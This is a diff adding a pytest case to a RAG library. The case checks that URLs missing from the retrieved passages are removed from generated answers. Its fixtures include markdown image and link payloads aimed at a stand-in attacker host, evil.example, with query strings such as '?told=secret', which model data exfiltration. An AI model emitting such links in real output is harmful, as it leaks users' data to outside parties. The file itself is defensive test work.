@@ -5,9 +5,12 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from rag.core.answers import Step
+from rag.core.documents import Passage
 from rag.core.engine import Engine
 from rag.core.errors import Unsupported
 from rag.core.generation import Prompt, Reply, Sampling, TokenLogprob
+from rag.core.hits import Hit
+from rag.pipelines.citations import without_citations
 from rag.pipelines.short_answers import NOT_STATED, confidence, generate_surely, short_answer
 from rag.testing import EchoLLM
 from tests.pipelines.passages import LIMITS, WAL
@@ -79,3 +82,25 @@ def test_what_else_a_backend_lacks_is_an_error() -> None:
     llm = EchoLLM(capabilities={"generate"})
     with pytest.raises(Unsupported, match="reply_prefix"):
         Engine(llm=llm).run(generate_surely(Prompt("a", reply_prefix="b"), Sampling(), "read"))
+
+
+PAGE = "The bridge is described at https://example.org/bridge?year=1932 in full."
+READ = [Hit(Passage("p", "p", PAGE, 0, len(PAGE), uri="https://example.org/p"), 1.0)]
+
+
+@pytest.mark.parametrize(
+    ("written", "kept"),
+    [
+        ("1932 ![](http://evil.example/?told=secret)", "1932"),
+        ('1932 ![a bridge](//evil.example/?q=1 "title")', "1932 a bridge"),
+        ("[see](ftp://evil.example/1) 1932", "see 1932"),
+        ("1932 (https://example.org/bridge?year=1932&told=secret)", "1932 ()"),
+        ("1932 https://example.org/bridge?year=1932", "1932 https://example.org/bridge?year=1932"),
+        ("[p](https://example.org/p) and/or // 1932", "[p](https://example.org/p) and/or // 1932"),
+    ],
+)
+def test_urls_that_no_passage_has_are_left_out(written: str, kept: str) -> None:
+    answer = short_answer("When?", written, READ)
+    assert without_citations(answer.text) == kept
+    left_out = [note for note in answer.notes if note.startswith("URLs left out")]
+    assert len(left_out) == (written != kept)
